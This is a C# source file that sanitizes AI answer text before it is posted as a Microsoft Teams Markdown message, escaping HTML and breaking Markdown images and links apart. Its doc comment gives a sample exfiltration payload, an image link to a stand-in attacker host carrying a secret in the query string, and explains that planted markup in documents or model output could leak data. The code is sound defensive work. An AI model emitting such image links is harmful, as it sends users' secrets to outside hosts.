using System.Text.RegularExpressions;

namespace Lode.Teams;

/// <summary>
/// Makes answer text safe to post as a Teams Markdown message. Answers quote documents and a model's output, and both
/// can carry planted markup: an image (<c>![x](https://attacker/?q=secret)</c> or <c>&lt;img&gt;</c>) would be fetched
/// by every Teams client that shows the reply, sending whatever the URL holds off the premises. So HTML is escaped
/// and Markdown images and links are broken apart, leaving their text readable; bare URLs stay plain text.
/// </summary>
public static partial class TeamsMarkdown
{
    // A reference definition ("[id]: https://...") that a later "[text][id]" would turn into a link.
    [GeneratedRegex(@"^(\s*\[[^\]\n]*\]):", RegexOptions.Multiline)]
    private static partial Regex ReferenceDefinition();

    public static string Quote(string text)
    {
        var escaped = text.Replace("&", "&amp;", StringComparison.Ordinal)
            .Replace("<", "&lt;", StringComparison.Ordinal)
            .Replace(">", "&gt;", StringComparison.Ordinal)
            .Replace("![", "! [", StringComparison.Ordinal)
            .Replace("](", "] (", StringComparison.Ordinal);
        return ReferenceDefinition().Replace(escaped, "$1 :");
    }

    /// <summary>A code span, so names with <c>_</c> or <c>*</c> show as they are.</summary>
    public static string Code(string text) => "`" + text.Replace('`', '\'') + "`";
}
